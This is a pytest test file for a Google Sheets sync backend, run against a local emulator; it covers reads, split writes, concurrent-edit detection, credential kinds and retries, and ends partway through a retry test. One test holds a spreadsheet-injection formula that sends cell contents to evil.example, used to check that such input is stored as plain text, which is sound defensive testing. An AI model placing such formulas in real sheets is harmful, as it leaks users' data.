"""The Google backend, with the real gspread client over real HTTP against the emulator.

No mocks: the emulator answers as Google does (see tests/sheets_emulator), faults are
injected on the wire, and request counts come from the emulator's log.
"""

from __future__ import annotations

import datetime as dt
import itertools
import json
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from sheets_emulator import Fault, Formula, SheetsEmulator

from sync import cli
from sync.backends.google import GoogleWorkbook, RowsMovedError, open_google, spreadsheet_key
from sync.backends.google.api import WriteRefused, bad_request
from sync.backends.google.credentials import Kind, credentials_kind
from sync.checks import check_credentials
from sync.config import WorkbookConfig
from sync.errors import ConcurrentEditError, ConfigError, WorkbookError
from sync.grid import CellUpdate, Grid, OwnedTab, RowKey

TABS = ["KPIs", "OKRs", "KPI log", "Status"]
COLOURS = {"OK": "green", "WARNING": "amber", "CRITICAL": "red", "NO DATA": "grey"}
Opener = Callable[..., GoogleWorkbook]


def kpi_grid(rows: int) -> Grid:
    return [
        ["KPI", "Owner", "Warning", "Critical"],
        *([f"KPI {i}", "ops@example.com", 99, 98] for i in range(1, rows + 1)),
    ]


@pytest.fixture
def book(sheets_emulator: SheetsEmulator) -> str:
    return sheets_emulator.create(
        {
            "KPIs": kpi_grid(3),
            "OKRs": [["Objective", "Key result"]],
            "KPI log": [["Date", "KPI", "Value"]],
        }
    )


@pytest.fixture
def open_book(sheets_emulator: SheetsEmulator) -> Iterator[Opener]:
    """Opens workbooks on the emulator (fast retries by default) and closes them afterwards."""
    opened: list[GoogleWorkbook] = []

    def open_(key: str, credentials: Path | None = None, **options: Any) -> GoogleWorkbook:
        cfg = WorkbookConfig(
            backend="google", spreadsheet=key, endpoint=sheets_emulator.url, credentials=credentials
        )
        workbook = open_google(cfg, **{"backoff_factor": 0.0, "retry_budget": 5.0, **options})
        opened.append(workbook)
        return workbook

    yield open_
    for workbook in opened:
        workbook.close()


def sync_once(workbook: GoogleWorkbook, status: str = "OK", status_rows: int = 2) -> None:
    """What a run does through the gateway: read all tabs, then write statuses and keys."""
    grids = workbook.read(TABS)
    kpis = grids["KPIs"]
    assert kpis is not None
    rows = range(2, len(kpis) + 1)
    updates = [CellUpdate("KPIs", 1, 5, "Status"), CellUpdate("KPIs", 1, 6, "Checked")]
    updates += [
        u
        for r in rows
        for u in (
            CellUpdate("KPIs", r, 5, status),
            CellUpdate("KPIs", r, 6, "2026-11-02 08:00+00:00"),
        )
    ]
    keys = [RowKey("KPIs", r, ((1, kpis[r - 1][0]),)) for r in rows]
    grid: Grid = [
        ["Last run", "2026-11-02 08:00"],
        *([f"KPI {i}", status] for i in range(1, status_rows)),
    ]
    workbook.write(updates, [OwnedTab("Status", grid, COLOURS)], keys)


# -- reading ---------------------------------------------------------------------------------
def test_the_read_asks_for_an_answer_without_google_s_indentation(
    sheets_emulator: SheetsEmulator, open_book: Opener
) -> None:
    key = sheets_emulator.create({"KPIs": kpi_grid(200)})
    workbook = open_book(key)
    ours = workbook.read(["KPIs"])["KPIs"]
    plain = workbook.client.http_client.values_batch_get(
        key, ["'KPIs'"], {"valueRenderOption": "UNFORMATTED_VALUE"}
    )  # gspread's own call, Google's default
    assert ours == plain["valueRanges"][0]["values"]
    compact, indented = (r.response_size for r in sheets_emulator.requests)
    assert compact < indented / 2


def test_several_tabs_are_read_in_one_request_whatever_their_names(
    sheets_emulator: SheetsEmulator, open_book: Opener
) -> None:
    key = sheets_emulator.create(
        {
            "KPIs": [["KPI"]],
            "KPI log": [["Date"]],
            "Bob's KPIs": [["x"]],
            "A1": [["a cell-like name"]],
        }
    )
    grids = open_book(key).read(["KPIs", "KPI log", "Bob's KPIs", "A1"])
    assert grids == {
        "KPIs": [["KPI"]],
        "KPI log": [["Date"]],
        "Bob's KPIs": [["x"]],
        "A1": [["a cell-like name"]],
    }
    assert sheets_emulator.apis() == ["values.batchGet"]
    params = sheets_emulator.requests[0].params
    assert params["ranges"] == ["'KPIs'", "'KPI log'", "'Bob''s KPIs'", "'A1'"]
    assert (
        params["valueRenderOption"],
        params["dateTimeRenderOption"],
        params["majorDimension"],
    ) == (["UNFORMATTED_VALUE"], ["SERIAL_NUMBER"], ["ROWS"])


def test_a_missing_tab_reads_as_none_at_the_cost_of_one_more_request(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    grids = open_book(book).read(["KPIs", "Targets"])
    assert grids == {"KPIs": kpi_grid(3), "Targets": None}
    assert [(r.api, r.status) for r in sheets_emulator.requests] == [
        ("values.batchGet", 400),
        ("values.batchGet", 200),
    ]
    assert sheets_emulator.requests[-1].params["ranges"] == ["'KPIs'"]


def test_two_missing_tabs_cost_one_request_each(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    grids = open_book(book).read(["Targets", "KPIs", "Budget"])
    assert grids == {"Targets": None, "KPIs": kpi_grid(3), "Budget": None}
    assert [(r.api, r.status) for r in sheets_emulator.requests] == [
        ("values.batchGet", 400),
        ("values.batchGet", 400),
        ("values.batchGet", 200),
    ]


def test_three_missing_tabs_are_resolved_through_the_tab_list(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    grids = open_book(book).read(["A", "B", "KPIs", "C"])
    assert grids == {"A": None, "B": None, "KPIs": kpi_grid(3), "C": None}
    assert [(r.api, r.status) for r in sheets_emulator.requests] == [
        ("values.batchGet", 400)
    ] * 3 + [("get", 200), ("values.batchGet", 200)]


def test_no_tab_found_reads_all_as_none(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    assert open_book(book).read(["A", "B"]) == {"A": None, "B": None}
    assert sheets_emulator.count() == 2


def test_tab_names_match_whatever_their_case(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    assert open_book(book).read(["kpis"])["kpis"] == kpi_grid(3)


def test_formula_results_and_errors_read_as_their_values(
    sheets_emulator: SheetsEmulator, open_book: Opener
) -> None:
    key = sheets_emulator.create(
        {"KPIs": [[Formula("=1/0", "#DIV/0!"), Formula("=2*3", 6), True, "12%"]]}
    )
    assert open_book(key).read(["KPIs"])["KPIs"] == [["#DIV/0!", 6, True, "12%"]]


def test_dates_arrive_as_serial_numbers_and_empty_cells_as_none(
    sheets_emulator: SheetsEmulator, open_book: Opener
) -> None:
    key = sheets_emulator.create({"KPIs": [["KPI", "", dt.date(2026, 11, 2)], [], ["Uptime"]]})
    assert open_book(key).read(["KPIs"])["KPIs"] == [["KPI", None, 46328], [], ["Uptime"]]


# -- writing ---------------------------------------------------------------------------------
def test_the_first_write_creates_the_status_tab_with_its_colour_rules_in_one_batch(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sync_once(open_book(book))
    batches = [r for r in sheets_emulator.requests if r.api == "batchUpdate"]
    batches = [b for b in batches if "updateCells" not in b.body["requests"][0]]  # not a write
    assert len(batches) == 1
    kinds = [next(iter(request)) for request in batches[0].body["requests"]]
    assert kinds == ["addSheet"] + ["addConditionalFormatRule"] * len(COLOURS)
    rules = sheets_emulator.sheet(book, "Status").conditional_formats
    words = [r["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for r in rules]
    assert words == list(COLOURS)
    assert sheets_emulator.grid(book, "Status") == [
        ["Last run", "2026-11-02 08:00"],
        ["KPI 1", "OK"],
    ]
    assert sheets_emulator.grid(book, "KPIs")[1] == [
        "KPI 1",
        "ops@example.com",
        99,
        98,
        "OK",
        "2026-11-02 08:00+00:00",
    ]


def test_a_new_status_tab_counts_only_its_own_columns_against_the_cell_limit(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    """Google's 10-million-cell limit counts every cell of every grid: the UI's 26 columns
    would waste 19 cells a row on a 7-column Status tab, near the limit a million of them."""
    sync_once(open_book(book), status_rows=3000)
    status = sheets_emulator.sheet(book, "Status")
    assert (status.row_count, status.column_count) == (3300, 2)  # a tenth more rows to grow


def test_a_steady_run_makes_three_requests_and_adds_no_second_tab_or_rule(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sync_once(open_book(book))
    sheets_emulator.clear_log()
    workbook = open_book(book)
    sync_once(workbook, status="WARNING")
    assert sheets_emulator.apis() == ["values.batchGet", "get", "batchUpdate"]
    assert workbook.request_count == 3
    assert sheets_emulator.tabs(book) == ["KPIs", "OKRs", "KPI log", "Status"]
    assert len(sheets_emulator.sheet(book, "Status").conditional_formats) == len(COLOURS)
    assert sheets_emulator.grid(book, "KPIs")[3][4] == "WARNING"


def test_colour_rules_a_person_deleted_are_added_back_by_the_next_run_that_writes(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sync_once(open_book(book))
    sheets_emulator.sheet(book, "Status").conditional_formats.clear()  # a person deleted them
    sync_once(open_book(book), status="WARNING")  # the key check shows the tab's rules
    assert len(sheets_emulator.sheet(book, "Status").conditional_formats) == len(COLOURS)
    for title_first in (True, False):  # a run that mails fetches the tab list anyway
        sheets_emulator.sheet(book, "Status").conditional_formats.clear()
        workbook = open_book(book)
        if title_first:
            assert workbook.title == "Team metrics"
        grids = workbook.read(TABS)
        assert workbook.title == "Team metrics"
        workbook.write([], [OwnedTab("Status", grids["Status"] or [], COLOURS)])
        assert len(sheets_emulator.sheet(book, "Status").conditional_formats) == len(COLOURS)


def test_a_sheet_of_5000_rows_costs_as_many_requests_as_one_of_5(
    sheets_emulator: SheetsEmulator, open_book: Opener
) -> None:
    counts = []
    for rows in (5, 5000):
        key = sheets_emulator.create({"KPIs": kpi_grid(rows), "OKRs": [], "KPI log": []})
        sync_once(open_book(key), status_rows=rows)
        sheets_emulator.clear_log()
        sync_once(open_book(key), status="CRITICAL", status_rows=rows)
        counts.append(sheets_emulator.apis())
        sheets_emulator.clear_log()
        assert sheets_emulator.grid(key, "KPIs")[rows][4] == "CRITICAL"
    assert counts[0] == counts[1] == ["values.batchGet", "get", "batchUpdate"]


def test_a_tab_the_workbook_lacks_costs_one_more_request_per_run(
    sheets_emulator: SheetsEmulator, open_book: Opener
) -> None:
    key = sheets_emulator.create({"KPIs": kpi_grid(3), "OKRs": []})
    sync_once(open_book(key))
    sheets_emulator.clear_log()
    sync_once(open_book(key))
    assert [(r.api, r.status) for r in sheets_emulator.requests] == [
        ("values.batchGet", 400),
        ("values.batchGet", 200),
        ("get", 200),
        ("batchUpdate", 200),
    ]


def test_a_shorter_status_grid_blanks_what_the_longer_one_left(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sync_once(open_book(book), status_rows=4)
    sync_once(open_book(book), status_rows=2)
    assert sheets_emulator.grid(book, "Status") == [
        ["Last run", "2026-11-02 08:00"],
        ["KPI 1", "OK"],
    ]


def write_requests(emulator: SheetsEmulator) -> list[Any]:
    return [
        r
        for r in emulator.requests
        if r.api == "batchUpdate" and "updateCells" in r.body["requests"][0]
    ]


def cells_at(sheet_id: int, row: int, col: int, values: list[list[str]]) -> dict[str, Any]:
    """The updateCells request that writes ``values`` as text from 0-based (row, col)."""
    rows = [{"values": [{"userEnteredValue": {"stringValue": v}} for v in r]} for r in values]
    start = {"sheetId": sheet_id, "rowIndex": row, "columnIndex": col}
    return {"updateCells": {"start": start, "rows": rows, "fields": "userEnteredValue"}}


def test_a_write_over_google_s_10_mib_limit_goes_in_requests_under_2_mb(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    """Google refuses a body over 10 MiB (the emulator too) and advises 2 MB at most."""
    notes = [[f"KPI {i}", f"{i:06d}" + "n" * 39_994] for i in range(300)]  # 12 MB of text
    workbook = open_book(book)
    workbook.read(TABS)
    workbook.write([], [OwnedTab("Status", notes, COLOURS)])
    sizes = [r.body_size for r in write_requests(sheets_emulator)]
    assert len(sizes) >= 6
    assert max(sizes) <= 2_000_000
    assert all(r.status == 200 for r in write_requests(sheets_emulator))
    assert sheets_emulator.grid(book, "Status") == notes


def test_a_write_is_split_below_the_configured_size_and_lands_whole(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sheets_emulator.max_request_bytes = 6_000  # Google's limit, scaled down
    workbook = open_book(book, max_request_bytes=3_000)
    grids = workbook.read(TABS)
    updates = [CellUpdate("KPIs", r, 5, f"status of row {r}") for r in range(2, 301)]
    keys = [RowKey("KPIs", 2, ((1, "KPI 1"),))]
    status: Grid = [[f"KPI {i}", "OK"] for i in range(200)]
    workbook.write(updates, [OwnedTab("Status", status, COLOURS)], keys)
    sizes = [r.body_size for r in write_requests(sheets_emulator)]
    assert len(sizes) > 3
    assert max(sizes) <= 3_000
    kpis = sheets_emulator.grid(book, "KPIs")
    assert [row[4] for row in kpis[1:300]] == [f"status of row {r}" for r in range(2, 301)]
    assert sheets_emulator.grid(book, "Status") == status
    assert grids["KPIs"] is not None


def test_a_split_write_that_adds_a_column_does_not_take_its_own_header_for_an_edit(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    """A first run's new column: its header goes in the first request; the key check before
    the second finds it there, written by the sync itself, not moved by a person."""
    workbook = open_book(book, max_request_bytes=520)
    workbook.read(TABS)
    notes = {r: f"note {r} " + "x" * 100 for r in (2, 3, 4)}
    updates = [CellUpdate("KPIs", 1, 5, "Status")]
    updates += [CellUpdate("KPIs", r, 5, note) for r, note in notes.items()]
    keys = [RowKey("KPIs", 1, ((1, "KPI"), (5, None)))]
    keys += [RowKey("KPIs", r, ((1, f"KPI {r - 1}"),)) for r in notes]
    workbook.write(updates, [], keys)
    assert len(write_requests(sheets_emulator)) > 1
    assert [row[4] for row in sheets_emulator.grid(book, "KPIs")] == ["Status", *notes.values()]


def test_rows_moved_in_the_middle_of_a_split_write_stop_the_requests_left(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    workbook = open_book(book, max_request_bytes=520)
    workbook.read(TABS)
    updates = [CellUpdate("KPIs", r, 5, "x" * 100) for r in (2, 3, 4)]
    keys = [RowKey("KPIs", r, ((1, f"KPI {r - 1}"),)) for r in (2, 3, 4)]

    def insert() -> None:
        sheets_emulator.insert_rows(book, "KPIs", 2, [["KPI 0"]])

    sheets_emulator.before("get", insert, nth=2)  # the check before the second
    with pytest.raises(ConcurrentEditError, match=r"write's first 1 of 2 requests went through"):
        workbook.write(updates, [], keys)
    assert len(write_requests(sheets_emulator)) == 1
    kpis = sheets_emulator.grid(book, "KPIs")  # the first request's rows, moved down a row
    assert [(row[0], row[4:]) for row in kpis[1:5]] == [
        ("KPI 0", []),
        ("KPI 1", ["x" * 100]),
        ("KPI 2", ["x" * 100]),
        ("KPI 3", []),
    ]


def test_a_steady_write_sends_only_the_status_cells_that_changed(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sync_once(open_book(book), status_rows=50)
    sheets_emulator.clear_log()
    workbook = open_book(book)
    grid = workbook.read(TABS)["Status"]
    assert grid is not None
    grid = [list(row) for row in grid]
    grid[0][1] = "2026-11-02 09:00"  # the run's time
    grid[7][1] = "CRITICAL"
    workbook.write([], [OwnedTab("Status", grid, COLOURS)])
    (sent,) = write_requests(sheets_emulator)
    sheet_id = sheets_emulator.sheet(book, "Status").sheet_id
    assert sent.body["requests"] == [
        cells_at(sheet_id, 0, 1, [["2026-11-02 09:00"]]),
        cells_at(sheet_id, 7, 1, [["CRITICAL"]]),
    ]
    assert sheets_emulator.grid(book, "Status") == grid


def test_a_write_that_changes_nothing_sends_nothing(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sync_once(open_book(book), status_rows=5)
    sheets_emulator.clear_log()
    workbook = open_book(book)
    grid = workbook.read(TABS)["Status"]
    workbook.write([], [OwnedTab("Status", grid or [], COLOURS)])
    assert sheets_emulator.apis() == ["values.batchGet"]


def test_text_that_looks_like_a_formula_is_written_as_plain_text(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    hostile = ['=IMPORTXML("https://evil.example/?"&A1, "//a")', "+1+1", "-2", "@SUM(A1)"]
    workbook = open_book(book)
    workbook.read(["KPIs"])
    workbook.write(
        [CellUpdate("KPIs", 2, 5 + i, text) for i, text in enumerate(hostile)],
        [OwnedTab("Status", [hostile], COLOURS)],
    )
    assert sheets_emulator.formulas(book) == []
    assert sheets_emulator.grid(book, "KPIs")[1][4:] == hostile
    assert sheets_emulator.grid(book, "Status") == [hostile]


def test_datetimes_and_blanks_are_written_as_readable_text_and_empty_cells(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    when = dt.datetime(2026, 11, 2, 8, 0, tzinfo=dt.UTC)
    workbook = open_book(book)
    workbook.read(["KPIs"])
    workbook.write(
        [
            CellUpdate("KPIs", 2, 2, None),
            CellUpdate("KPIs", 2, 5, when),
            CellUpdate("KPIs", 2, 6, dt.date(2026, 11, 2)),
        ],
        [],
    )
    assert sheets_emulator.grid(book, "KPIs")[1] == [
        "KPI 1",
        None,
        99,
        98,
        "2026-11-02 08:00+00:00",
        "2026-11-02",
    ]


def test_a_tab_too_narrow_for_a_new_column_is_widened_before_the_write(
    sheets_emulator: SheetsEmulator, open_book: Opener
) -> None:
    key = sheets_emulator.create({"KPIs": kpi_grid(2)}, cols=4)
    workbook = open_book(key)
    workbook.read(["KPIs"])
    workbook.write([CellUpdate("KPIs", 1, 5, "Status")], [])
    # growing needs the sheet's id, which the key check (a spreadsheets.get) tells
    assert sheets_emulator.apis() == ["values.batchGet", "get", "batchUpdate", "batchUpdate"]
    assert sheets_emulator.sheet(key, "KPIs").column_count == 5
    assert sheets_emulator.grid(key, "KPIs")[0][4] == "Status"


def test_headers_of_new_columns_beyond_the_grid_are_not_read_before_the_write(
    sheets_emulator: SheetsEmulator, open_book: Opener
) -> None:
    key = sheets_emulator.create({"KPIs": kpi_grid(2)}, cols=4)
    workbook = open_book(key)
    workbook.read(["KPIs"])
    header = RowKey("KPIs", 1, ((1, "KPI"), (5, None)))  # column 5 is created by this write
    workbook.write(
        [CellUpdate("KPIs", 1, 5, "Status"), CellUpdate("KPIs", 2, 5, "OK")],
        [],
        [header, RowKey("KPIs", 2, ((1, "KPI 1"),))],
    )
    assert sheets_emulator.requests[1].params["ranges"] == ["'KPIs'!A1:D1", "'KPIs'!A2:A"]
    assert sheets_emulator.grid(key, "KPIs")[1][4] == "OK"


def test_writing_to_a_tab_that_does_not_exist_names_the_tab(open_book: Opener, book: str) -> None:
    with pytest.raises(WorkbookError, match="has no tab 'Targets'"):
        open_book(book).write([CellUpdate("Targets", 1, 1, "x")], [])


def test_rows_inserted_between_read_and_write_stop_the_write_and_carry_fresh_grids(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    workbook = open_book(book)
    grids = workbook.read(["KPIs"])
    sheets_emulator.insert_rows(book, "KPIs", 2, [["Signups", "", 10, 5]])
    before = sheets_emulator.grid(book, "KPIs")
    with pytest.raises(
        ConcurrentEditError, match="row 2: expected 'KPI 1', found 'Signups'"
    ) as caught:
        workbook.write(
            [CellUpdate("KPIs", 2, 5, "OK")],
            [OwnedTab("Status", [["x"]], COLOURS)],
            [RowKey("KPIs", 2, ((1, "KPI 1"),))],
        )
    assert isinstance(caught.value, RowsMovedError)
    assert caught.value.grids["KPIs"] == before != grids["KPIs"]
    assert sheets_emulator.grid(book, "KPIs") == before
    assert "Status" not in sheets_emulator.tabs(book)
    assert "batchUpdate" not in sheets_emulator.apis()


def test_key_cells_are_compared_as_a_person_reads_them(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    workbook = open_book(book)
    workbook.read(["KPIs"])
    keys = [
        RowKey("KPIs", 2, ((1, " KPI 1 "),)),  # spaces around text do not count
        RowKey("KPIs", 4, ((2, "ops@example.com"), (3, 99.0))),
    ]  # 99 == 99.0
    workbook.write([CellUpdate("KPIs", 2, 5, "OK")], [], keys)
    assert sheets_emulator.grid(book, "KPIs")[1][4] == "OK"


# -- opening and errors ------------------------------------------------------------------------
def test_a_url_gives_the_same_key_as_the_key_itself() -> None:
    url = "https://docs.google.com/spreadsheets/d/1AbC-d_9xyz/edit#gid=0"
    assert spreadsheet_key(url) == spreadsheet_key(" 1AbC-d_9xyz ") == "1AbC-d_9xyz"


@pytest.mark.parametrize(
    "endpoint",
    [
        "http://sheets.example.com",
        "ftp://127.0.0.1",
        "https://sheets.googleapis.com/v4",
        "http://10.0.0.1:8080",
    ],
)
def test_an_endpoint_neither_https_nor_loopback_is_refused_before_any_request(
    endpoint: str,
) -> None:
    cfg = WorkbookConfig(backend="google", spreadsheet="abc", endpoint=endpoint)
    with pytest.raises(ConfigError, match="endpoint"):
        open_google(cfg)


@pytest.mark.parametrize("endpoint", ["http://localhost:9", "http://127.0.0.2:9", "http://[::1]:9"])
def test_a_loopback_endpoint_needs_no_credentials(endpoint: str) -> None:
    cfg = WorkbookConfig(backend="google", spreadsheet="abc", endpoint=endpoint)
    with open_google(cfg) as workbook:
        assert workbook.url == "https://docs.google.com/spreadsheets/d/abc"


def test_a_wrong_key_is_named_in_the_error(open_book: Opener) -> None:
    with pytest.raises(WorkbookError, match=r"spreadsheet nosuchkey was not found.*after /d/"):
        open_book("nosuchkey").read(["KPIs"])


@pytest.fixture(scope="module")
def private_key() -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()


def test_an_unshared_sheet_names_the_service_account_to_share_it_with(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str, tmp_path: Path, private_key: str
) -> None:
    email = "metrics-sync@team-project.iam.gserviceaccount.com"
    creds = tmp_path / "service-account.json"
    creds.write_text(
        json.dumps(
            {
                "type": "service_account",
                "project_id": "team-project",
                "private_key_id": "1",
                "private_key": private_key,
                "client_email": email,
                "client_id": "1",
                "token_uri": sheets_emulator.token_uri,
            }
        )
    )
    workbook = open_book(book, credentials=creds)
    assert workbook.read(["KPIs"])["KPIs"] == kpi_grid(3)
    assert sheets_emulator.requests[0].authorization == "Bearer emulator-token"
    sheets_emulator.deny(book)
    with pytest.raises(WorkbookError, match=f"share the spreadsheet .* with {email}"):
        workbook.read(["KPIs"])


def test_an_authorized_user_file_is_accepted(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str, tmp_path: Path
) -> None:
    creds = tmp_path / "user.json"
    creds.write_text(
        json.dumps(
            {  # a stored, unexpired token: google-auth pins token_uri
                "type": "authorized_user",
                "client_id": "c",
                "client_secret": "s",
                "refresh_token": "r",
                "token": "user-token",
                "expiry": "2999-01-01T00:00:00Z",
            }
        )
    )
    assert open_book(book, credentials=creds).read(["OKRs"]) == {
        "OKRs": [["Objective", "Key result"]]
    }
    assert sheets_emulator.requests[0].authorization == "Bearer user-token"


@pytest.fixture
def credential_files(
    sheets_emulator: SheetsEmulator, tmp_path: Path, private_key: str
) -> dict[str, Path]:
    """One file of each kind google-auth loads, as Cloud console, gcloud and CI write them."""
    folder, token_uri = tmp_path, sheets_emulator.token_uri
    sa = "metrics-sync@team-project.iam.gserviceaccount.com"
    user = {
        "type": "authorized_user",
        "client_id": "c",
        "client_secret": "s",
        "refresh_token": "r",
        "token_uri": token_uri,
    }
    (folder / "oidc-token").write_text("a-ci-oidc-token")
    impersonate = (
        "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/"
        f"{sa}:generateAccessToken"
    )
    infos: dict[str, dict[str, Any]] = {
        "service_account": {
            "type": "service_account",
            "project_id": "team-project",
            "private_key_id": "1",
            "private_key": private_key,
            "client_email": sa,
            "client_id": "1",
            "token_uri": token_uri,
        },
        "authorized_user": user,
        "external_account": {  # Workload Identity Federation, as a CI system writes it
            "type": "external_account",
            "audience": "//iam.googleapis.com/projects/1/locations/global/"
            "workloadIdentityPools/ci/providers/gitlab",
            "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
            "token_url": token_uri,
            "credential_source": {"file": str(folder / "oidc-token")},
        },
        "impersonated_service_account": {
            "type": "impersonated_service_account",
            "service_account_impersonation_url": impersonate,
            "source_credentials": user,
            "delegates": [],
        },
    }
    paths = {}
    for kind, info in infos.items():
        paths[kind] = folder / f"{kind}.json"
        paths[kind].write_text(json.dumps(info))
        paths[kind].chmod(0o600)
    return paths


@pytest.mark.parametrize(
    ("kind", "account"),
    [
        ("service_account", "metrics-sync@team-project.iam.gserviceaccount.com"),
        ("authorized_user", None),
        ("external_account", None),
        ("impersonated_service_account", "metrics-sync@team-project.iam.gserviceaccount.com"),
    ],
)
def test_every_kind_of_credentials_file_google_auth_takes_is_accepted(
    credential_files: dict[str, Path], book: str, kind: str, account: str | None
) -> None:
    path = credential_files[kind]
    info = json.loads(path.read_text())
    assert credentials_kind(path, info) == Kind(kind, account)
    wb = WorkbookConfig(name="team", backend="google", spreadsheet=book, credentials=path)
    (found,) = check_credentials(wb)
    assert found.level == "ok"
    assert (account or kind) in found.what


@pytest.mark.parametrize("kind", ["service_account", "external_account"])
def test_credentials_that_get_a_token_from_google_s_token_endpoint_read_the_sheet(
    sheets_emulator: SheetsEmulator,
    open_book: Opener,
    book: str,
    credential_files: dict[str, Path],
    kind: str,
) -> None:
    path = credential_files[kind]
    assert open_book(book, credentials=path).read(["KPIs"])["KPIs"] == kpi_grid(3)
    assert sheets_emulator.requests[-1].authorization == "Bearer emulator-token"


@pytest.mark.parametrize(
    ("why", "expected"),
    [
        (
            "not shared",
            r"The caller does not have permission; share the spreadsheet \(as Editor\) "
            r"with metrics-sync@team-project\.iam\.gserviceaccount\.com$",
        ),
        (
            "disabled",
            r"Google Sheets API has not been used in project 123456789012 .*; enable the Google "
            r"Sheets API in that project .*`gcloud services enable sheets\.googleapis\.com "
            r"--project 123456789012`",
        ),
        (
            "scope",
            r"insufficient authentication scopes\.; the credentials lack the Sheets scope: .*"
            r"--scopes=https://www\.googleapis\.com/auth/spreadsheets,",
        ),
    ],
)
def test_each_kind_of_403_says_google_s_reason_and_its_own_fix(
    sheets_emulator: SheetsEmulator,
    open_book: Opener,
    credential_files: dict[str, Path],
    why: str,
    expected: str,
) -> None:
    book = sheets_emulator.create({"KPIs": kpi_grid(3)})
    path = credential_files["service_account"]
    sheets_emulator.deny(book, why)
    with pytest.raises(WorkbookError, match=expected):
        open_book(book, credentials=path).read(["KPIs"])


def test_an_oauth_client_without_a_token_and_no_terminal_stops_at_once(
    tmp_path: Path, book: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """In cron the browser sign-in would wait forever holding the lock: exit 2 instead."""
    client = tmp_path / "oauth-client.json"
    client.write_text(
        json.dumps(
            {
                "installed": {
                    "client_id": "c.apps.googleusercontent.com",
                    "client_secret": "s",
                    "auth_uri": "https://accounts.google.com/o/oauth2/auth",
                    "token_uri": "https://oauth2.googleapis.com/token",
                    "redirect_uris": ["http://localhost"],
                }
            }
        )
    )
    client.chmod(0o600)
    config = tmp_path / "metrics-sync.toml"
    config.write_text(
        f'[workbook]\nbackend = "google"\nspreadsheet = "{book}"\ncredentials = "{client}"\n',
        encoding="utf-8",
    )
    assert not sys.stdin.isatty()
    started = time.monotonic()
    assert cli.main(["run", "--once", "--config", str(config)]) == 2
    assert time.monotonic() - started < 1.0
    err = capsys.readouterr().err
    assert "run `metrics-sync check` once by hand" in err
    assert not (tmp_path / "oauth-client.token.json").exists()


def test_the_title_costs_one_small_request_and_only_when_asked_for(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    workbook = open_book(book)
    workbook.read(["KPIs"])
    assert sheets_emulator.apis() == ["values.batchGet"]
    assert (workbook.title, workbook.title) == ("Team metrics", "Team metrics")
    assert sheets_emulator.apis() == ["values.batchGet", "get"]
    assert "data" not in sheets_emulator.requests[-1].params["fields"][0]


def test_the_title_comes_free_when_the_tab_list_was_fetched_anyway(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    workbook = open_book(book)
    workbook.read(["A", "B", "C", "KPIs"])
    requests = sheets_emulator.count()
    assert workbook.title == "Team metrics"
    assert sheets_emulator.count() == requests


# -- retries ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "fault",
    [
        Fault.quota(retry_after="0"),
        Fault.error(503, html=True),
        Fault.error(500),
        Fault.connection_reset(),
    ],
    ids=["429 with Retry-After", "503 HTML page", "500", "connection reset"],
)
def test_a_passing_failure_is_retried_and_the_read_succeeds(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str, fault: Fault
) -> None:
    sheets_emulator.fail(fault, times=2)
    workbook = open_book(book)
    assert workbook.read(["KPIs"])["KPIs"] == kpi_grid(3)
    assert sheets_emulator.count("values.batchGet") == workbook.request_count == 3


def test_without_retry_after_the_waits_double_from_the_configured_base(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    """Google's quota 429 usually has no Retry-After: waits of base, 2 x base, 4 x base, each
    plus up to base at random (docs/reliability.md), measured on the emulator's clock."""
    base = 0.1
    sheets_emulator.fail(Fault.quota(retry_after=None), times=3)
    workbook = open_book(book, backoff_factor=base)
    assert workbook.read(["KPIs"])["KPIs"] == kpi_grid(3)
    arrivals = [r.at for r in sheets_emulator.requests]
    assert [r.status for r in sheets_emulator.requests] == [429, 429, 429, 200]
    gaps = [b - a for a, b in itertools.pairwise(arrivals)]
    for gap, wait in zip(gaps, (base, 2 * base, 4 * base), strict=True):
        assert wait <= gap < wait + base + 0.5, gaps  # 0.5 s of slack for a busy machine


def test_a_quota_429_that_outlasts_the_attempts_names_google_s_quota(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sheets_emulator.fail(Fault.quota(retry_after=None), times=5)
    with pytest.raises(WorkbookError, match=r"HTTP 429 .*after 2 attempt\(s\).*Read requests"):
